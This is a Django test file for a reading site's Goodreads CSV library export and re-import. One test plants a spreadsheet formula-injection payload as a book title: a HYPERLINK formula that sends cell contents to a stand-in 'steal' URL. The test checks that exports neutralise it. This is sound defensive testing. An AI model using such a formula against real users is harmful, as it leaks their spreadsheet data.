"""Downloading a reader's library as a Goodreads export, and bringing it back."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from accounts.models import LibraryImport
from books.models import Author, Authorship, Book
from reviews.goodreads.library import COLUMNS, EXPORT_COLUMNS
from reviews.models import Shelf, ShelfEntry
from reviews.services import rating_set, review_create, shelf_create, shelf_set, shelf_tags_set
from tests.conftest import FIXTURES
from tests.query_budget import assert_queries_do_not_grow

EXPORT = FIXTURES / "goodreads_library_export.csv"


@pytest.fixture(autouse=True)
def _immediate_tasks(settings):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


def read_csv(text: str) -> tuple[list[str], list[dict]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return reader.fieldnames, list(reader)


def download(client) -> str:
    response = client.get(reverse("accounts:library-export"))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    return b"".join(response.streaming_content).decode("utf-8")


def upload(client, text: str) -> LibraryImport:
    response = client.post(
        reverse("accounts:library-import"),
        {"file": SimpleUploadedFile("export.csv", text.encode(), content_type="text/csv")},
    )
    assert response.status_code == 302
    return LibraryImport.objects.latest("pk")


def make_library(reader, size: int, offset: int = 0) -> None:
    """``size`` books on every kind of shelf, rated, reviewed, tagged, with two authors."""
    abandoned = reader.shelves.filter(name="abandoned").first() or shelf_create(
        user=reader, name="abandoned", exclusive=True
    )
    tag = reader.shelves.filter(name="favourites").first() or shelf_create(
        user=reader, name="favourites", exclusive=False
    )
    shelves = list(Shelf.BUILT_IN)
    for n in range(offset, offset + size):
        book = Book.objects.create(
            title=f"Book {n}", goodreads_id=str(1000 + n), isbn13=f"{9780000000000 + n}"
        )
        book.authors.add(Author.objects.create(name=f"Writer {n}"))
        book.authors.add(Author.objects.create(name=f"Translator {n}"))
        shelf = abandoned if n % 4 == 3 else shelves[n % 3]
        entry = shelf_set(user=reader, book=book, shelf=shelf)
        shelf_tags_set(user=reader, book=book, tags=[tag])
        entry.private_notes = f"note {n}"
        entry.save()
        rating_set(user=reader, book=book, stars=n % 5 + 1)
        review_create(user=reader, book=book, body=f"Review {n}", spoiler=n % 2 == 0)


def test_the_export_takes_a_fixed_number_of_queries(reader_client, reader):
    def grow(size: int) -> None:
        make_library(reader, size, offset=ShelfEntry.objects.filter(user=reader).count())

    few, many = assert_queries_do_not_grow(
        lambda _: download(reader_client), grow=grow, steps=(30, 60), budget=10
    )

    assert len(read_csv(few)[1]) == 30
    _, rows = read_csv(many)
    assert len(rows) == 90

    row = next(r for r in rows if r["Book Id"] == "1003")
    assert (row["Author"], row["Additional Authors"]) == ("Writer 3", "Translator 3")
    assert (row["Exclusive Shelf"], row["Bookshelves"]) == ("abandoned", "abandoned, favourites")
    assert (row["My Rating"], row["My Review"], row["Spoiler"]) == ("4", "Review 3", "")
    assert row["Private Notes"] == "note 3"
    assert row["Date Added"] == timezone.localdate().strftime("%Y/%m/%d")


def test_a_book_rated_but_never_shelved_is_exported_as_read(reader_client, reader, source_book):
    rating_set(user=reader, book=source_book, stars=4)
    _, rows = read_csv(download(reader_client))
    assert [(r["Title"], r["My Rating"], r["Exclusive Shelf"]) for r in rows] == [
        ("Memoirs of a Revolutionary", "4", "read")
    ]
    assert rows[0]["Author"] == "Victor Serge"


def test_each_reader_exports_their_own_library(reader_client, reader, other_reader):
    make_library(reader, 2)
    make_library(other_reader, 3, offset=10)
    _, rows = read_csv(download(reader_client))
    assert sorted(r["Book Id"] for r in rows) == ["1000", "1001"]


def test_an_empty_library_exports_the_header(reader_client):
    columns, rows = read_csv(download(reader_client))
    assert (columns, rows) == (list(EXPORT_COLUMNS), [])


def test_anonymous_readers_get_no_export(client, reader):
    make_library(reader, 1)
    response = client.get(reverse("accounts:library-export"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


def test_a_formula_another_reader_imported_comes_out_of_an_export_as_text(
    client, reader, other_reader
):
    """Ada imports a book whose title is a formula; Grace shelves that book and exports her
    library: the cell is text to a spreadsheet, and importing it gives back the title."""
    formula = '=HYPERLINK("http://x/steal?d="&A1,"Click me")'
    row = dict.fromkeys(COLUMNS, "") | {
        "Book Id": "99",
        "Title": formula,
        "Author": "+Mallory",
        "My Rating": "3",
        "Exclusive Shelf": "read",
        "My Review": "-- a dash first",
    }
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerow(row)
    client.force_login(reader)
    upload(client, out.getvalue())
    book = Book.objects.get(goodreads_id="99")
    assert book.title == formula
    shelf_set(user=other_reader, book=book, shelf=Shelf.Kind.READ)

    client.force_login(other_reader)
    exported = download(client)
    (written,) = read_csv(exported)[1]
    assert written["Title"] == f"'{formula}"
    assert written["Author"] == "'+Mallory"

    # Ada's own export, imported again: nothing changes, the text comes back as it was.
    client.force_login(reader)
    mine = download(client)
    assert read_csv(mine)[1][0]["My Review"] == "'-- a dash first"
    job = upload(client, mine)
    assert (job.report["unchanged"], job.report["errors"]) == (1, [])
    assert Book.objects.get(goodreads_id="99").title == formula


def test_additional_authors_are_written_in_byline_order_with_their_roles(
    reader_client, reader, source_book
):
    shelf_set(user=reader, book=source_book, shelf="read")
    Authorship.objects.bulk_create(
        [
            Authorship(
                book=source_book,
                author=Author.objects.create(name="Adam Hochschild"),
                position=2,
                role="Introduction",
            ),
            Authorship(
                book=source_book,
                author=Author.objects.create(name="Peter Sedgwick"),
                position=1,
                role="Translator",
            ),
            Authorship(
                book=source_book, author=Author.objects.create(name="Richard Greeman"), position=3
            ),
        ]
    )

    _, rows = read_csv(download(reader_client))

    assert (rows[0]["Author"], rows[0]["Additional Authors"]) == (
        "Victor Serge",
        "Peter Sedgwick (Translator), Adam Hochschild (Introduction), Richard Greeman",
    )


def test_a_downloaded_library_brings_its_roles_back(reader_client, reader, source_book, client):
    shelf_set(user=reader, book=source_book, shelf="read")
    Authorship.objects.create(
        book=source_book,
        author=Author.objects.create(name="Peter Sedgwick"),
        position=1,
        role="Translator",
    )
    text = download(reader_client)
    # The same rows on a site that has none of the books.
    Book.objects.all().delete()
    Author.objects.all().delete()

    job = upload(reader_client, text)

    job.refresh_from_db()
    assert job.report["errors"] == []
    book = Book.objects.get(title="Memoirs of a Revolutionary")
    assert list(
        Authorship.objects.filter(book=book).values_list("author__name", "position", "role")
    ) == [("Victor Serge", 0, ""), ("Peter Sedgwick", 1, "Translator")]
